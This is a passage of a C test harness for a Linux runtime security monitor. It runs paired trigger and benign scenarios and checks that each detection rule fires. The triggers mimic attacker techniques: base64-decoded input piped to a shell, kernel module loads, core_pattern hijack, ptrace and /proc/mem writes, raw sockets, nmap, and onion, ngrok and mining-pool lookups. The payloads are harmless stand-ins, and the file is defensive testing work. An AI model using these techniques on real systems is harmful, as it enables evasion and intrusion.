	  "mkfifo $S/f && (echo dHJ1ZQo= | base64 -d > $S/f &) && cat < $S/f >/dev/null && mkfifo $S/g && (echo true > $S/g &) && sh < $S/g", "mkfifo" },
	{ "decoder-output-run-by-shell",
	  "(sleep 0.5; echo dHJ1ZQo= | base64 -d) | sh",
	  "(sleep 0.5; echo true) | sh && (sleep 0.5; echo true | base64) | sh -c 'cat >/dev/null'", NULL },
	{ "decoder-output-run-by-shell",
	  "echo cHJpbnQoMSkK | base64 -d | /usr/bin/python3 >/dev/null",
	  "echo eyJhIjoxfQo= | base64 -d | /usr/bin/python3 -m json.tool >/dev/null", "/usr/bin/python3" },
	{ "script-decoder-output-run-by-shell",
	  "/usr/bin/python3 -c 'import base64,sys; sys.stdout.write(base64.b64decode(sys.argv[1]).decode())' dHJ1ZQo= | sh",
	  "/usr/bin/python3 -c 'import base64,sys; sys.stdout.write(base64.b64encode(b\"true\").decode())' | sh -c 'cat >/dev/null' && /usr/bin/python3 -c 'print(\"true\")' | sh", "/usr/bin/python3" },

	/* kernel.yaml */
	/* A kernel without module support has no module syscall tracepoints, and vigil run does
	 * not watch module loads there (they can only fail): /proc/modules tells. */
	{ "kernel-module-load",
	  "$H @finit /usr/bin/true",
	  "busybox lsmod >/dev/null 2>&1; true", "/proc/modules" },
	{ "kernel-module-load-from-unusual-path",
	  "echo junk > $S/evil.ko && $H @finit $S/evil.ko",
	  "echo junk > $S/evil.ko && cat $S/evil.ko >/dev/null", "/proc/modules" },
	{ "kernel-module-file-written",
	  "ovl /usr/lib && mkdir -p /usr/lib/modules/vigil-test && cp /bin/true /usr/lib/modules/vigil-test/evil.ko",
	  "ovl /usr/lib && mkdir -p /usr/lib/modules/vigil-test && run_as /usr/bin/dpkg 'cp /bin/true /usr/lib/modules/vigil-test/pkg.ko'", NULL },
	{ "kernel-module-config-written",
	  "scratch /etc/modules-load.d && echo evil > /etc/modules-load.d/evil.conf",
	  "scratch /etc/modules-load.d && run_as /usr/bin/dpkg 'echo pkg > /etc/modules-load.d/pkg.conf'", NULL },
	{ "bpf-program-load",
	  "$H @bpf socket_filter",
	  "$H @bpf-map && fake /usr/sbin/bpftool $H && bpftool @bpf socket_filter", NULL },
	{ "bpf-tracing-program-load",
	  "$H @bpf kprobe",
	  "$H @bpf socket_filter && fake /usr/bin/bpftrace $H && bpftrace @bpf kprobe", NULL },
	{ "kernel-sysctl-written",
	  "sysctl_rewrite /proc/sys/kernel/printk_ratelimit_burst",
	  "cat /proc/sys/kernel/printk_ratelimit_burst >/dev/null && run_as /usr/lib/systemd/systemd-sysctl 'f=/proc/sys/kernel/printk_ratelimit_burst; v=$(cat $f) && echo \"$v\" > $f'", NULL },
	{ "usermode-helper-hijack",
	  "sysctl_rewrite /proc/sys/kernel/core_pattern",
	  "run_as /usr/lib/systemd/systemd-sysctl 'f=/proc/sys/kernel/core_pattern; v=$(cat $f) && echo \"$v\" > $f'", NULL },
	{ "kernel-tracing-configured",
	  "mount -t tracefs tracefs /sys/kernel/tracing 2>/dev/null; : >> /sys/kernel/tracing/trace_marker",
	  "mount -t tracefs tracefs /sys/kernel/tracing 2>/dev/null; cat /sys/kernel/tracing/tracing_on >/dev/null && run_as /usr/bin/trace-cmd ': >> /sys/kernel/tracing/trace_marker'", NULL },
	{ "securityfs-written",
	  "mount -t securityfs securityfs /sys/kernel/security 2>/dev/null; : >> /sys/kernel/security/lockdown",
	  "mount -t securityfs securityfs /sys/kernel/security 2>/dev/null; cat /sys/kernel/security/lockdown >/dev/null && run_as /usr/sbin/apparmor_parser ': >> /sys/kernel/security/lockdown'", NULL },

	/* injection.yaml */
	{ "ptrace-attach",
	  "$H @attach",
	  "strace -o /dev/null /bin/true", "strace" },
	{ "ptrace-attach-to-non-descendant",
	  "sleep 5 & p=$!; wait_exe $p /usr/bin/sleep; timeout 1 strace -p $p -o /dev/null 2>/dev/null; kill $p",
	  "strace -o /dev/null /bin/true && strace -f -o /dev/null sh -c 'sleep 0.1 & wait'", "strace timeout" },
	{ "ptrace-memory-or-register-write",
	  "$H @poke",
	  "$H @peek-child && fake /usr/bin/gdb $H && gdb @poke", NULL },
	{ "process-vm-write",
	  "$H @vmwrite",
	  "$H @vmread && fake /usr/sbin/criu $H && criu @vmwrite", NULL },
	{ "proc-mem-write",
	  "$H @procmem-write",
	  "$H @procmem-read && fake /usr/bin/gdb $H && gdb @procmem-write", NULL },

	/* discovery.yaml */
	{ "network-scanner-run",
	  "fake /usr/local/bin/nmap && nmap -sS 127.0.0.1",
	  "fake /usr/local/bin/nmap-report && nmap-report 127.0.0.1", NULL },
	{ "packet-socket-opened",
	  "$H @socket packet",
	  "fake /usr/sbin/tcpdump $H && /usr/sbin/tcpdump @socket packet", NULL },
	{ "raw-ip-socket-opened",
	  "$H @socket raw",
	  "fake /usr/bin/ping $H && /usr/bin/ping @socket raw; $H @socket udp", NULL },

	/* command-and-control.yaml, impact.yaml */
	{ "dns-onion-lookup",
	  "$H @dns vigiltestxyz.onion",
	  "$H @dns onion.example.com", NULL },
	{ "dns-tunnel-service-lookup",
	  "$H @dns vigil-test.ngrok-free.app",
	  "$H @dns ngrok.example.com", NULL },
	{ "crypto-miner-command-line",
	  "/bin/true --donate-level=1 -o stratum+tcp://127.0.0.1:3333",
	  "/bin/true -o tcp://127.0.0.1:3333", NULL },
	{ "dns-mining-pool-lookup",
	  "$H @dns pool.supportxmr.com",
	  "$H @dns pool.example.com", NULL },
	{ "mining-pool-port-connect",
	  "unshare -n $H @connect 192.0.2.1 3333",
	  "unshare -n $H @connect 192.0.2.1 443; $H @connect 127.0.0.1 3333", NULL },
};
/* clang-format on */

#define N_SCENARIOS (sizeof(scenarios) / sizeof(scenarios[0]))

/* ------------------------------------------------------------------------------------------ */
/* The helper: `$H @verb args` runs one syscall scenario and exits                             */
/* ------------------------------------------------------------------------------------------ */

static volatile unsigned long victim_word = 0x1122334455667788ul;

static pid_t spawn_victim(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		for (;;)
			pause();
	}
	return pid;
}

static void reap(pid_t pid)
{
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static int attach(pid_t pid)
{
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL))
		return -1;
	return waitpid(pid, NULL, __WALL) == pid ? 0 : -1;
}

/* The start of the first mapping of @pid: an address that can be read. */
static unsigned long first_mapping(pid_t pid)
{
	char path[64];
	unsigned long addr = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	f = fopen(path, "r");
	if (f) {
		if (fscanf(f, "%lx", &addr) != 1)
			addr = 0;
		fclose(f);
	}
	return addr;
}

static bool copy_file(const char *from, int to)
{
	char buf[65536];
	int in = open(from, O_RDONLY);
	ssize_t r;
	bool ok = in >= 0;

	while (ok && (r = read(in, buf, sizeof(buf))) > 0)
		ok = write(to, buf, r) == r;
	if (in >= 0)
		close(in);
	return ok;
}

static int wait_code(pid_t pid)
{
	int status = -1;

	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

static int sys_bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

static int helper_bpf(const char *type)
{
	struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr attr;
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type =
		strcmp(type, "kprobe") ? BPF_PROG_TYPE_SOCKET_FILTER : BPF_PROG_TYPE_KPROBE;
	attr.insns = (unsigned long)insns;
	attr.insn_cnt = 2;
	attr.license = (unsigned long)"GPL";
	strcpy(attr.prog_name, "vigil_rules");
	fd = sys_bpf(BPF_PROG_LOAD, &attr);
	if (fd < 0)
		return 1;
	close(fd);
	return 0;
}

static int helper_bpf_map(void)
{
	union bpf_attr attr;
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 8;
	attr.max_entries = 1;
	strcpy(attr.map_name, "vigil_rules");
	fd = sys_bpf(BPF_MAP_CREATE, &attr);
	if (fd < 0)
		return 1;
	close(fd);
	return 0;
}

/* A DNS query for @name, sent to 127.0.0.1:53 (nobody need answer: vigil sees it leave). */
static int helper_dns(const char *name)
{
	unsigned char q[300] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(53) };
	size_t off = 12;
	int fd, ret;

	while (*name && off < sizeof(q) - 70) {
		size_t len = strcspn(name, ".");

		q[off++] = len;
		memcpy(q + off, name, len);
		off += len;
		name += len;
		if (*name == '.')
			name++;
	}
	q[off++] = 0;
	q[off++] = 0, q[off++] = 1; /* A */
	q[off++] = 0, q[off++] = 1; /* IN */
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	ret = sendto(fd, q, off, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)off ? 0 : 1;
	close(fd);
	return ret;
}

static int helper_connect(const char *addr, const char *port)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	struct pollfd pfd = { .fd = fd, .events = POLLOUT };

	inet_pton(AF_INET, addr, &to.sin_addr);
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) && errno == EINPROGRESS)
		poll(&pfd, 1, 300);
	close(fd);
	return 0;
}

static int helper(int argc, char **argv)
{
	const char *verb = argv[1] + 1;
	pid_t child;
	long word;

	if (!strcmp(verb, "uring-open") && argc > 2) {
		struct ring r;
		int fd;

		if (ring_setup(&r))
			return 1;
		fd = ring_run(&r, &(struct io_uring_sqe){ .opcode = IORING_OP_OPENAT,
							  .fd = AT_FDCWD,
							  .addr = (__u64)(unsigned long)argv[2],
							  .open_flags = O_RDONLY });
		ring_close(&r);
		return fd < 0;
	}
	if (!strcmp(verb, "handle-open") && argc > 2) {
		struct {
			struct file_handle h;
			unsigned char bytes[MAX_HANDLE_SZ];
		} fh = { .h.handle_bytes = MAX_HANDLE_SZ };
		/* the handle is looked up on the mount of the fd given: the file's own */
		int mount_id, fd = -1, mfd = open(argv[2], O_RDONLY | O_CLOEXEC);

		if (mfd >= 0 && !name_to_handle_at(AT_FDCWD, argv[2], &fh.h, &mount_id, 0))
			fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_CLOEXEC);
		close(fd);
		close(mfd);
		return fd < 0;
	}

	if (!strcmp(verb, "attach") || !strcmp(verb, "peek-child") || !strcmp(verb, "poke")) {
		child = spawn_victim();
		if (attach(child))
			return 1;
		if (strcmp(verb, "attach")) {
			errno = 0;
			word = ptrace(PTRACE_PEEKDATA, child, (void *)&victim_word, NULL);
			if (!strcmp(verb, "poke"))
				ptrace(PTRACE_POKEDATA, child, (void *)&victim_word, (void *)word);
		}
		ptrace(PTRACE_DETACH, child, NULL, NULL);
		reap(child);
		return 0;
	}
	if (!strcmp(verb, "peek") && argc > 2) {
		pid_t pid = atoi(argv[2]);

		if (attach(pid))
			return 1;
		ptrace(PTRACE_PEEKDATA, pid, (void *)first_mapping(pid), NULL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
		return 0;
	}
	if (!strcmp(verb, "vmwrite") || !strcmp(verb, "vmread")) {
		unsigned long value = 0;
		struct iovec local = { &value, sizeof(value) };
		struct iovec remote = { (void *)&victim_word, sizeof(value) };
		ssize_t n;

		child = spawn_victim();
		if (!strcmp(verb, "vmwrite")) {
			value = victim_word;
			n = process_vm_writev(child, &local, 1, &remote, 1, 0);
		} else {
			n = process_vm_readv(child, &local, 1, &remote, 1, 0);
		}
		reap(child);
		return n == sizeof(value) ? 0 : 1;
	}
	if (!strcmp(verb, "procmem-write") || !strcmp(verb, "procmem-read")) {
		bool wr = !strcmp(verb, "procmem-write");
		unsigned long value = victim_word;
		char path[64];
		ssize_t n;
		int fd;

		child = spawn_victim();
		snprintf(path, sizeof(path), "/proc/%d/mem", child);
		fd = open(path, wr ? O_RDWR : O_RDONLY);
		n = wr ? pwrite(fd, &value, sizeof(value), (off_t)(unsigned long)&victim_word)
		       : pread(fd, &value, sizeof(value), (off_t)(unsigned long)&victim_word);
		close(fd);
		reap(child);
		return n == sizeof(value) ? 0 : 1;
	}
	if (!strcmp(verb, "memfd-exec") || !strcmp(verb, "memfd-noexec")) {
		char *const args[] = { "payload", NULL };
		int fd = memfd_create("payload", MFD_CLOEXEC);

		if (fd < 0 || !copy_file("/bin/true", fd))
			return 1;
		child = fork();
		if (child == 0) {
			if (!strcmp(verb, "memfd-exec"))
				fexecve(fd, args, environ);
			else
				execve("/bin/true", args, environ);
			_exit(127);
		}
		return wait_code(child);
	}
	if ((!strcmp(verb, "deleted-exec") || !strcmp(verb, "copy-exec")) && argc > 2) {
		bool del = !strcmp(verb, "deleted-exec");
		char *const args[] = { "payload", NULL };
		char fdpath[64];
		int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0755);

		if (fd < 0 || !copy_file("/bin/true", fd))
			return 1;
		close(fd);
		fd = open(argv[2], O_RDONLY);
		if (del)
			unlink(argv[2]);
		snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
		child = fork();
		if (child == 0) {
			execve(del ? fdpath : argv[2], args, environ);
			_exit(127);
		}
		return wait_code(child);
	}
	if (!strcmp(verb, "bpf") && argc > 2)
		return helper_bpf(argv[2]);
	if (!strcmp(verb, "bpf-map"))
		return helper_bpf_map();
	if (!strcmp(verb, "finit") && argc > 2) {
		int fd = open(argv[2], O_RDONLY | O_CLOEXEC);

		/* fails (not a module, or no module support): reported all the same */
		syscall(SYS_finit_module, fd, "", 0);
		close(fd);
		return 0;
	}
	if (!strcmp(verb, "socket") && argc > 2) {
		int fd;

		if (!strcmp(argv[2], "packet"))
			fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
		else if (!strcmp(argv[2], "raw"))
			fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
		else
			fd = socket(AF_INET, SOCK_DGRAM, 0);
		if (fd < 0)
			return 1;
		close(fd);
		return 0;
	}
	if (!strcmp(verb, "setuid-root")) {
		/* a root process with a non-root real uid making itself root again */
		if (setresuid(65534, 0, 0))
			return 1;
		return setuid(0) ? 1 : 0;
	}
	if (!strcmp(verb, "chmod") && argc > 3)
		return chmod(argv[3], strtol(argv[2], NULL, 8)) ? 1 : 0;
	if (!strcmp(verb, "setuid-drop"))
		return setresuid(65534, 65534, 65534) ? 1 : 0;
	if (!strcmp(verb, "connect") && argc > 3)
		return helper_connect(argv[2], argv[3]);
	if (!strcmp(verb, "dns") && argc > 2)
		return helper_dns(argv[2]);
	fprintf(stderr, "test_rules: unknown helper %s\n", argv[1]);
	return 64;
}

/* glibc passes argc and argv to constructors: the helper runs before the harness's main. */
__attribute__((constructor)) static void helper_main(int argc, char **argv)
{
	if (argc > 1 && argv[1][0] == '@')
		exit(helper(argc, argv));
}

/* ------------------------------------------------------------------------------------------ */
/* Running the scenarios                                                                       */
/* ------------------------------------------------------------------------------------------ */

#define CGROUP_DIR	 "vigil-test-rules"
#define SCENARIO_TIMEOUT 20.0

static struct {
	bool done;	    /* the run happened (or was attempted) */
	const char *fail;   /* why it could not run, or NULL */
	char cgroot[256];   /* the cgroup2 mount */
	char work[64];	    /* /tmp/vigil-rules-<pid>: lib.sh, logs, scratch directories */
	char self[512];	    /* this binary */
	const char *filter; /* argv[1]: only rules whose id contains it */
	struct json_object **ev;
	size_t n;
	char skip[N_SCENARIOS][160]; /* why a scenario was not run */
	int status[N_SCENARIOS][2];  /* exit codes of trigger and benign */
} run;

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static bool find_cgroup2(char *out, size_t len)
{
	char line[1024], *p;
	FILE *f = fopen("/proc/self/mountinfo", "r");
	bool found = false;

	if (!f)
		return false;
	/* id parent maj:min root mountpoint options [optional...] - fstype source superopts */
	while (!found && fgets(line, sizeof(line), f)) {
		char mnt[256];

		p = strstr(line, " - cgroup2 ");
		if (p && sscanf(line, "%*s %*s %*s %*s %255s", mnt) == 1 && strlen(mnt) < len) {
			strcpy(out, mnt);
			found = true;
		}
	}
	fclose(f);
	return found;
}

static void cg_path(char *out, size_t len, size_t i, char which)
{
	if (i == (size_t)-1)
		snprintf(out, len, "%s/%s", run.cgroot, CGROUP_DIR);
	else
		snprintf(out, len, "%s/%s/%02zu-%s.%c", run.cgroot, CGROUP_DIR, i,
			 scenarios[i].rule, which);
}

/* The name vigil reports for a scenario's cgroup. */
static void cg_name(char *out, size_t len, size_t i, char which)
{
	snprintf(out, len, "/%s/%02zu-%s.%c", CGROUP_DIR, i, scenarios[i].rule, which);
}

static bool write_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	bool ok = fd >= 0 && write(fd, s, strlen(s)) == (ssize_t)strlen(s);

	if (fd >= 0)
		close(fd);
	return ok;
}

/* Kill whatever is left in a cgroup, wait until it is empty, remove it. */
static void cg_remove(const char *dir)
{
	char path[PATH_MAX + 32], buf[64];
	double deadline = now_s() + 5;

	snprintf(path, sizeof(path), "%s/cgroup.kill", dir);
	write_file(path, "1");
	snprintf(path, sizeof(path), "%s/cgroup.procs", dir);
	while (now_s() < deadline) {
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf)) : 0;

		if (fd >= 0)
			close(fd);
		if (n <= 0)
			break;
		usleep(20000);
	}
	rmdir(dir);
}

static void cleanup(void)
{
	char path[PATH_MAX];

	for (size_t i = 0; i < N_SCENARIOS; i++) {
		cg_path(path, sizeof(path), i, 't');
		cg_remove(path);
		cg_path(path, sizeof(path), i, 'b');
		cg_remove(path);
	}
	cg_path(path, sizeof(path), (size_t)-1, 0);
	rmdir(path);
	if (run.work[0] && !getenv("VIGIL_RULES_KEEP") && shf("rm -rf '%s'", run.work))
		fprintf(stderr, "test_rules: could not remove %s\n", run.work);
	events_free(run.ev, run.n);
	run.ev = NULL;
}

static bool selected(size_t i)
{
	return !run.filter || strstr(scenarios[i].rule, run.filter);
}

/* Which of the programs in @needs (space-separated) are missing; "" when none. */
static void missing_programs(const char *needs, char *out, size_t len)
{
	char list[256], *tok, *save = NULL;

	out[0] = '\0';
	if (!needs)
		return;
	snprintf(list, sizeof(list), "%s", needs);
	for (tok = strtok_r(list, " ", &save); tok; tok = strtok_r(NULL, " ", &save)) {
		const char *dirs[] = { "/usr/local/sbin", "/usr/local/bin", "/usr/sbin",
				       "/usr/bin",	  "/sbin",	    "/bin" };
		bool found = false;

		for (size_t d = 0; d < sizeof(dirs) / sizeof(dirs[0]) && !found; d++) {
			char path[PATH_MAX];

			snprintf(path, sizeof(path), "%s/%s", dirs[d], tok);
			found = access(path, X_OK) == 0;
		}
		if (tok[0] == '/')
			found = access(tok, F_OK) == 0;
		if (!found)
			snprintf(out + strlen(out), len - strlen(out), "%s%s", out[0] ? ", " : "",
				 tok);
	}
}

/*
 * Run one side of scenario @i in its cgroup and a mount namespace of its own, with its output
 * in work/<name>.log. Returns the shell's exit code (-1: could not run, or timed out).
 */
static int run_one(size_t i, char which)
{
	const char *cmd = which == 't' ? scenarios[i].trigger : scenarios[i].benign;
	char cg[PATH_MAX], scratch[PATH_MAX], log[PATH_MAX], lib[PATH_MAX], script[PATH_MAX];
	char port[16];
	double deadline;
	int status = -1, fd;
	pid_t pid, w;
	FILE *f;

	cg_path(cg, sizeof(cg), i, which);
	if (mkdir(cg, 0755) && errno != EEXIST)
		return -1;
	snprintf(scratch, sizeof(scratch), "%s/%02zu.%c", run.work, i, which);
	snprintf(log, sizeof(log), "%s/%02zu-%s.%c.log", run.work, i, scenarios[i].rule, which);
	snprintf(script, sizeof(script), "%s/%02zu-%s.%c.sh", run.work, i, scenarios[i].rule,
		 which);
	snprintf(lib, sizeof(lib), "%s/lib.sh", run.work);
	snprintf(port, sizeof(port), "%d", 20000 + (int)((getpid() * 131 + i * 2) % 40000));
	/* From a file: the command is not in the shell's arguments, where rules on
	 * process.args would see it. */
	fd = open(script, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	f = fd >= 0 ? fdopen(fd, "w") : NULL;
	if (!f || mkdir(scratch, 0755))
		return -1;
	fprintf(f, ". \"$L\"\n%s\n", cmd);
	fclose(f);
	pid = fork();
	if (pid == 0) {
		char procs[PATH_MAX + 16];

		snprintf(procs, sizeof(procs), "%s/cgroup.procs", cg);
		if (!write_file(procs, "0"))
			_exit(120);
		/* Mounts the scenario makes exist only for it and vanish with it. */
		if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
			_exit(121);
		fd = open("/dev/null", O_RDONLY);
		dup2(fd, 0);
		fd = open(log, O_WRONLY | O_CREAT | O_TRUNC, 0600);
		dup2(fd, 1);
		dup2(fd, 2);
		if (chdir(scratch))
			_exit(122);
		clearenv();
		setenv("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", 1);
		setenv("HOME", "/root", 1);
		setenv("LC_ALL", "C", 1);
		setenv("S", scratch, 1);
		setenv("H", run.self, 1);
		setenv("L", lib, 1);
		setenv("PORT", port, 1);
		execl("/bin/sh", "sh", script, (char *)NULL);
		_exit(127);
	}
	if (pid < 0)
		return -1;
	deadline = now_s() + SCENARIO_TIMEOUT;
	while ((w = waitpid(pid, &status, WNOHANG)) == 0 && now_s() < deadline)
		usleep(10000);
	if (w == 0) {
		fprintf(stdout, "  scenario %02zu-%s.%c timed out after %.0f s\n", i,
			scenarios[i].rule, which, SCENARIO_TIMEOUT);
		cg_remove(cg); /* kills it */
		mkdir(cg, 0755);
		waitpid(pid, &status, 0);
		return -1;
	}
	/* Background processes it left (listeners, sleeps) go now; the cgroup stays until the end,
	 * so that vigil can still name it. */
	{
		char kill_path[PATH_MAX + 16];

		snprintf(kill_path, sizeof(kill_path), "%s/cgroup.kill", cg);
		write_file(kill_path, "1");
	}
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/*
 * Start `vigil run` with the built-in ruleset. VIGIL_RULES_POLICY=DIR runs DIR's policies
 * instead: with a copy of rules/ whose excepts are removed, the benign twins that fail are the
 * ones that exercise an allow-list.
 */
static bool start_agent(struct vigil_child *v)
{
	const char *policy = getenv("VIGIL_RULES_POLICY");
	const char *args[] = { "run", "--no-default-rules", "--policy", policy, NULL };

	if (!policy)
		args[1] = NULL;
	return vigil_start_checked(v, args);
}

/* Does scenario @i mount overlays (ovl, and the helpers built on it)? */
static bool uses_overlay(size_t i)
{
	const char *words[] = { "ovl ", "fake ", "run_as ", "accounts " };

	for (size_t w = 0; w < sizeof(words) / sizeof(words[0]); w++)
		if (strstr(scenarios[i].trigger, words[w]) || strstr(scenarios[i].benign, words[w]))
			return true;
	return false;
}

/* Every selected scenario, trigger then benign twin; fills run.skip and run.status. */
static void run_scenarios(bool have_overlay)
{
	for (size_t i = 0; i < N_SCENARIOS; i++) {
		char missing[128];

		if (!selected(i))
			continue;
		missing_programs(scenarios[i].needs, missing, sizeof(missing));
		if (!have_overlay && uses_overlay(i)) {
			snprintf(run.skip[i], sizeof(run.skip[i]),
				 "no overlayfs: the scenario's mounts cannot be made");
			continue;
		}
		if (missing[0]) {
			snprintf(run.skip[i], sizeof(run.skip[i]), "%s",
				 strstr(missing, "/proc/modules")
					 ? "kernel without module support (no /proc/modules): "
					   "vigil run does not watch module loads there"
					 : missing);
			if (!strstr(missing, "/proc/modules"))
				snprintf(run.skip[i], sizeof(run.skip[i]), "not installed: %s",
					 missing);
			continue;
		}
		run.status[i][0] = run_one(i, 't');
		run.status[i][1] = run_one(i, 'b');
	}
}

/*
 * Run the scenarios from a process reparented away from this one: rules that let build tools
 * (make, ...) be ancestors would otherwise see `make test` above every scenario and stay quiet.
 * The runner is orphaned by a middle process; its results come back in shared memory, and the
 * end of a close-on-exec pipe says it is done.
 */
static void run_detached(bool have_overlay)
{
	size_t size = sizeof(run.skip) + sizeof(run.status);
	char *shared = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	int done[2];
	pid_t middle;
	char c;

	if (shared == MAP_FAILED || pipe2(done, O_CLOEXEC)) {
		run_scenarios(have_overlay);
		return;
	}
	middle = fork();
	if (middle == 0) {
		pid_t self = getpid();

		close(done[0]);
		if (fork() != 0)
			_exit(0);
		while (getppid() == self)
			usleep(1000);
		run_scenarios(have_overlay);
		memcpy(shared, run.skip, sizeof(run.skip));
		memcpy(shared + sizeof(run.skip), run.status, sizeof(run.status));
		fflush(stdout);
		_exit(0);
	}
	close(done[1]);
	if (middle > 0)
		waitpid(middle, NULL, 0);
	while (middle > 0 && read(done[0], &c, 1) > 0)
		;
	close(done[0]);
	if (middle > 0) {
		memcpy(run.skip, shared, sizeof(run.skip));
		memcpy(run.status, shared + sizeof(run.skip), sizeof(run.status));
	} else {
		run_scenarios(have_overlay);
	}
	munmap(shared, size);
}

static void run_all(void)
{
	char path[PATH_MAX], cmdline[256];
	struct vigil_child v;
	bool have_overlay;
	ssize_t n;
	int fd;

	run.done = true;
	if (!harness_is_root()) {
		run.fail = "needs root (BPF, cgroups, mounts)";
		return;
	}
	/* The filter the harness was given, if any: run only those scenarios. */
	fd = open("/proc/self/cmdline", O_RDONLY);
	n = fd >= 0 ? read(fd, cmdline, sizeof(cmdline) - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n > 0) {
		cmdline[n] = '\0';
		if (strlen(cmdline) + 1 < (size_t)n)
			run.filter = strdup(cmdline + strlen(cmdline) + 1);
	}
	if (!find_cgroup2(run.cgroot, sizeof(run.cgroot))) {
		run.fail = "no cgroup2 mount";
		return;
	}
	n = readlink("/proc/self/exe", run.self, sizeof(run.self) - 1);
	if (n <= 0) {
		run.fail = "cannot read /proc/self/exe";
		return;
	}
	run.self[n] = '\0';
	snprintf(run.work, sizeof(run.work), "/tmp/vigil-rules-%d", getpid());
	atexit(cleanup);
	/* A previous run that died leaves its cgroups: they would stay forever. */
	cg_path(path, sizeof(path), (size_t)-1, 0);
	if (!access(path, F_OK))
		shf("for d in '%s'/*/; do [ -d \"$d\" ] && echo 1 > \"$d/cgroup.kill\"; "
		    "sleep 0.1; rmdir \"$d\"; done 2>/dev/null; rmdir '%s'",
		    path, path);
	if (mkdir(path, 0755) || mkdir(run.work, 0700)) {
		run.fail = "cannot create the cgroup or the work directory";
		return;
	}
	snprintf(path, sizeof(path), "%s/lib.sh", run.work);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, LIB, sizeof(LIB) - 1) != sizeof(LIB) - 1) {
		run.fail = "cannot write lib.sh";
		return;
	}
	close(fd);

	/* Scenarios that stand programs in, or change /etc or /var, need overlayfs. */
	have_overlay = !shf("unshare -m sh -c 'd=%s/ovl-probe && mkdir -p $d/l $d/u $d/w $d/m && "
			    "mount -t overlay o -o lowerdir=$d/l,upperdir=$d/u,workdir=$d/w $d/m' "
			    "2>/dev/null",
			    run.work);
	if (!start_agent(&v)) {
		run.fail = "vigil run did not start";
		return;
	}
	sleep(1);
	run_detached(have_overlay);
	sleep(1);
	run.ev = vigil_stop_and_load(&v, &run.n);
	/* VIGIL_RULES_KEEP=1 keeps the logs, scratch directories and alerts for a look. */
	if (getenv("VIGIL_RULES_KEEP")) {
		shf("cp '%s' '%s/alerts.json'", v.out, run.work);
		printf("  kept %s (alerts.json, one log per scenario)\n", run.work);
	}
	vigil_cleanup(&v);
}

/* Alerts of @rule in scenario @i's @which cgroup. */
static size_t count_alerts(size_t i, char which, const char *rule)
{
	char name[PATH_MAX];
	size_t count = 0;

	cg_name(name, sizeof(name), i, which);
	for (size_t k = 0; k < run.n; k++) {
		const char *id = jstr(run.ev[k], "rule.id"),
			   *cg = jstr(run.ev[k], "process.cgroup");

		count += id && cg && !strcmp(id, rule) && !strcmp(cg, name);
	}
	return count;
}

/* What the scenario's side raised instead, for the failure message. */
static void other_alerts(size_t i, char which, char *out, size_t len)
{
	char name[PATH_MAX];
	size_t off = 0;

	out[0] = '\0';
	cg_name(name, sizeof(name), i, which);
	for (size_t k = 0; k < run.n && off < len; k++) {
		const char *id = jstr(run.ev[k], "rule.id"),
			   *cg = jstr(run.ev[k], "process.cgroup");

		if (id && cg && !strcmp(cg, name) && !strstr(out, id))
			off += snprintf(out + off, len - off, "%s%s", off ? ", " : "", id);
	}
	if (!out[0])
		snprintf(out, len, "none");
}

static void print_log(size_t i, char which)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%s/%02zu-%s.%c.log", run.work, i, scenarios[i].rule, which);
	shf("[ -s '%s' ] && sed 's/^/    | /' '%s' | tail -n 15", path, path);
}

static void check_scenario(size_t i)
{
	char others[512];

	if (!run.done)
		run_all();
	if (run.fail) {
		if (!strncmp(run.fail, "needs root", 10))
			SKIP("%s", run.fail);
		else
			harness_check(false, __FILE__, __LINE__, "%s", run.fail);
		return;
	}
	if (run.skip[i][0]) {
		SKIP("%s", run.skip[i]);
		return;
	}
	if (!ASSERT_TRUE(count_alerts(i, 't', scenarios[i].rule) > 0,
			 "the trigger raised the rule's alert")) {
		other_alerts(i, 't', others, sizeof(others));
